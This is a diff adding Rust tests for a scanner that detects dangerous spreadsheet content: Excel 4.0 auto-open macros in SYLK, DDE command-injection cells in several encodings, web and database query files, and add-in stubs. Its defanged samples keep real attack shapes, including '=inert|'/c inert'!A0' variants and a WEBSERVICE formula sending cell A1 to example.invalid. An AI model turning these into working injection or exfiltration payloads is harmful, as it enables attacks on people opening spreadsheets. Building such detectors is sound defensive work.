@@ -1,1 +1,242 @@
 //! Sheets, queries and cells in text.
+
+use std::fmt::Write as _;
+
+use macrosift::report::Coverage;
+use macrosift::{Limit, Limits, Scanner, Verdict};
+
+use super::Row;
+
+fn formats(bytes: &[u8]) -> (&'static str, Verdict) {
+    let report = Scanner::new().scan(bytes);
+    (report.format(), report.verdict())
+}
+
+const SYLK: &str = "ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K\"INERT TEST DOCUMENT\"\r\n";
+
+#[test]
+fn a12_plain_sylk() {
+    assert_eq!(
+        formats(format!("{SYLK}C;X2;K-3\r\nE\r\n").as_bytes()),
+        ("slk", Verdict::Clean)
+    );
+}
+
+#[test]
+fn a12_macro_sheet() {
+    let text = SYLK.replace("C;", "O;L;E;D;V0;K47\r\nC;");
+    Row::new(
+        format!("{text}NN;NAuto_open;ER1C1\r\nC;Y2;X1;EHALT()\r\nE\r\n"),
+        Verdict::Suspicious,
+    )
+    .coverage(Coverage::Partial)
+    .says("Excel 4.0")
+    .check();
+}
+
+#[test]
+fn a12_auto_name_alone() {
+    let text = "ID;P\r\nNN;NAuto_OpenInert;ER1C1\r\nC;Y2;X1;EHALT()\r\nC;X2;K\"INERT TEST DOCUMENT\"\r\nE\r\n";
+    Row::new(text, Verdict::Suspicious)
+        .coverage(Coverage::Partial)
+        .check();
+}
+
+#[test]
+fn a12_dde_in_a_cell() {
+    let text = "ID;P\r\nC;Y1;X1;K0;Einert|'/c inert;;x'!A0\r\n";
+    let report = Row::new(format!("{text}{SYLK}E\r\n"), HELD).check();
+    assert!(
+        report
+            .findings()
+            .iter()
+            .any(|one| one.text == "inert|'/c inert;x'!A0")
+    );
+}
+
+#[test]
+fn a13_dde_cells() {
+    let rest = "\nINERT TEST DOCUMENT,1,2\n".repeat(8);
+    for cell in [
+        "=inert|'/c inert'!A0",
+        "+inert|'/c inert'!A0",
+        "-2+3+inert|'/c inert'!A0",
+        "@SUM(1+1)*inert|'/c inert'!A0",
+        "1,\"=inert|'/c inert'!A0\"",
+        "a;b;  =inert|'/c inert'!A0",
+        "\t=inert|'/c inert'!A0",
+        "\"\t=inert|'/c inert'!A0\"",
+        "＝inert|'/c inert'!A0",
+        "=inert|topic!item",
+    ] {
+        let report = Row::new(format!("{cell}{rest}"), HELD).check();
+        assert_eq!(report.format(), "csv", "{cell}");
+    }
+}
+
+#[test]
+fn a13_dde_cell_in_utf_16() {
+    let text = format!(
+        "\u{FEFF}=inert|'/c inert'!A0{}",
+        "\nINERT TEST DOCUMENT".repeat(8)
+    );
+    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    Row::new(wide, HELD).check();
+    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
+    Row::new(wide, HELD).check();
+}
+
+#[test]
+fn a13_dde_cell_in_shift_jis() {
+    // 請求書, and a wide sign for the formula.
+    let text = [
+        &b"\x90\xbf\x8b\x81\x8f\x91,\x81\x81inert|'/c inert'!A0"[..],
+        &b"\r\nINERT TEST DOCUMENT".repeat(8),
+    ];
+    Row::new(text.concat(), HELD).check();
+}
+
+#[test]
+fn a13_dif() {
+    let text = "TABLE\n0,1\n\"INERT TEST DOCUMENT\"\nDATA\n0,0\n\"\"\n-1,0\nBOT\n1,0\n\"=inert|'/c inert'!A0\"\n-1,0\nEOD\n";
+    let report = Scanner::new().scan(text.as_bytes());
+    assert_eq!((report.format(), report.verdict()), ("dif", HELD));
+}
+
+#[test]
+fn a13_formulas_that_fetch() {
+    let text = "=WEBSERVICE(\"http://example.invalid/?\"&A1)\nINERT TEST DOCUMENT\n".repeat(4);
+    Row::new(text, Verdict::Suspicious).check();
+    let link = "=HYPERLINK(\"http://example.invalid/\",\"x\")\nINERT TEST DOCUMENT\n";
+    assert!(formats(link.as_bytes()).1 <= Verdict::Macro);
+}
+
+#[test]
+fn a13_in_a_listing() {
+    let text = format!(
+        "=inert|'/c inert'!A0\n{}",
+        "Sub A()\nIf Now > 0 Then Exit Sub\nEnd Sub\n".repeat(4)
+    );
+    let report = Scanner::new().scan(text.as_bytes());
+    assert!(report.verdict() >= HELD, "{:#?}", report.reasons());
+}
+
+#[test]
+fn a13_ordinary_texts_are_of_no_concern() {
+    for text in [
+        "name,amount\nA,-12.5\nB,+3\nC,@home\n",
+        "a | b\n--- | ---\n-1 | x!\n| - | =x |\n",
+        "- yes|no\n- one thing|two things!three\n+ a|b\n",
+        "To: a|b@example.invalid; -c|d\n",
+        "diff\n-exec(\"x\")\n+call(y) | z!\n",
+        "=====\n\"=\"|\"x\"\n",
+    ] {
+        assert_eq!(formats(text.as_bytes()), ("text", Verdict::Other), "{text}");
+    }
+}
+
+#[test]
+fn a14_web_query() {
+    let text = "WEB\r\n1\r\nhttp://example.invalid/inert.txt\r\n\r\nSelection=EntirePage\r\nFormatting=All\r\n";
+    let report = Row::new(text, Verdict::Suspicious).check();
+    assert_eq!(report.format(), "iqy");
+    Row::new(
+        text.replace("http://example.invalid", r"\\example.invalid\share"),
+        Verdict::Suspicious,
+    )
+    .check();
+    Row::new(
+        text.replace("example.invalid", "192.0.2.1"),
+        Verdict::Suspicious,
+    )
+    .check();
+}
+
+#[test]
+fn a14_web_query_without_a_head() {
+    let text = "http://example.invalid/inert.txt\r\nSelection=EntirePage\r\n";
+    assert_eq!(formats(text.as_bytes()), ("iqy", Verdict::Suspicious));
+    let named = Scanner::new().scan_named(b"http://example.invalid/inert", "a.iqy");
+    assert_eq!(named.verdict(), Verdict::Suspicious);
+}
+
+#[test]
+fn a14_database_queries() {
+    for (text, format) in [
+        (
+            "XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=example.invalid;UID=inert\r\nSELECT 1\r\n",
+            "dqy",
+        ),
+        (
+            "QueryType=OLEDB\r\nVersion=1\r\nConnection=Provider=x;Data Source=example.invalid\r\nCommandText=inert\r\n",
+            "rqy",
+        ),
+        (
+            "QueryType=OLAP\r\nVersion=1\r\nConnection=Provider=x;Data Source=example.invalid\r\nCommandText=inert\r\n",
+            "oqy",
+        ),
+    ] {
+        let report = Scanner::new().scan(text.as_bytes());
+        assert_eq!(report.format(), format);
+        assert!(
+            report
+                .findings()
+                .iter()
+                .any(|one| one.text.contains("example.invalid")),
+            "{text}"
+        );
+    }
+}
+
+fn program(names: &[u8]) -> Vec<u8> {
+    let mut bytes = b"MZ\x90\0".to_vec();
+    bytes.resize(0x3C, 0);
+    bytes.extend([0x40, 0, 0, 0]);
+    bytes.extend(b"PE\0\0");
+    bytes.extend(names);
+    bytes.resize(2048, 0);
+    bytes
+}
+
+#[test]
+fn a15_xll() {
+    let report = Row::new(program(b"inert.dll\0xlAutoClose\0xlAutoOpen\0"), HELD).check();
+    assert_eq!(report.format(), "xll");
+    assert_eq!(formats(&program(b"inert.dll\0DllMain\0")).1, Verdict::Other);
+}
+
+#[test]
+fn a15_wll() {
+    let report = Row::new(program(b"inert.dll\0wdAutoOpen\0"), HELD).check();
+    assert_eq!(report.format(), "wll");
+}
+
+/// A long text is passed over once, whatever is in it.
+#[test]
+fn hostile_texts_cost_their_length() {
+    let cells = "=a|b!c,".repeat(100_000);
+    let open = format!("=\"{}", "a|'b ".repeat(100_000));
+    let calls = "=A(".repeat(100_000) + "WEBSERVICE(";
+    let bars = "=inert|'".repeat(100_000);
+    let mut names = String::from("ID;P\n");
+    for at in 0..100_000 {
+        let _ = writeln!(names, "C;X{at};E inert|'x'!A;;;EWEBSERVICE(\"a\")");
+    }
+    for text in [cells, open, calls, bars, names] {
+        let limits = Limits::mail().with(Limit::Steps, text.len() as u64);
+        let started = std::time::Instant::now();
+        let report = Scanner::builder()
+            .limits(limits)
+            .build()
+            .scan(text.as_bytes());
+        assert!(report.verdict() >= Verdict::Other);
+        assert!(
+            started.elapsed().as_secs() < 20,
+            "{}",
+            text.get(..20).unwrap()
+        );
+    }
+}
+
+/// What a program that is started, or a file that is one, comes to.
+const HELD: Verdict = Verdict::Malicious;
